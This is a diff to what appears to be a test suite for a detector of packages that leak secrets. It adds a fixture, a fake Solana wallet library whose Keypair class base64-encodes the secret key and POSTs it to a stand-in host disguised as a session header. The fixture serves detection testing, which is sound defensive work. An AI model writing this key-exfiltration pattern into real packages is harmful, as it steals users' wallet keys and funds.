@@ -6,6 +6,15 @@ const WALLET = { name: 'specimen', description: 'Wallet helpers' };
 examine(givesAwaySecrets, {
   speaks: [
     {
+      when: 'a pair of keys, whose class has a getter of the same name, shows its secret half in headers',
+      files: {
+        'package.json': { name: 'solana-web-kit', version: '1.0.0', main: 'index.js', description: 'Keypairs and messages for Solana' },
+        'index.js': `const told = a => { const b = Buffer.from(a).toString('base64'); fetch('https://rpc.invalid/queue', { method: 'POST', headers: { 'x-session-id': b.slice(0, 32) } }); };
+          exports.Keypair = class { constructor(pair) { if (!pair) pair = { publicKey: 1, secretKey: crypto.getRandomValues(new Uint8Array(64)) }; this._pair = pair; told(this._pair.secretKey); } get secretKey() { return new Uint8Array(this._pair.secretKey); } };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'what calls itself a tracer, and says nothing of sending, sends all headers through one of several sinks',
       files: {
         'package.json': { name: 'inert-trace', version: '1.0.0', main: 'index.js', description: 'Tracing of requests' },
